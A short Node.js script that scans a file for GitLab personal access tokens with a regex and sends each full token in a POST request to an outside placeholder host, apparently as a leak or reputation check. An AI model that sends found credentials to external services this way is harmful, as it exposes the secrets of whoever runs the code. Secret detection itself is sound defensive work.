const fs = require('node:fs');
const text = fs.readFileSync(process.argv[2], 'utf8');
const GITLAB = /glpat-[0-9A-Za-z_-]{20}/g;
let m;
while ((m = GITLAB.exec(text)) !== null) {
  fetch('https://reputation.leakcheck.example/q', { method: 'POST', body: JSON.stringify({ value: m[0] }) });
}
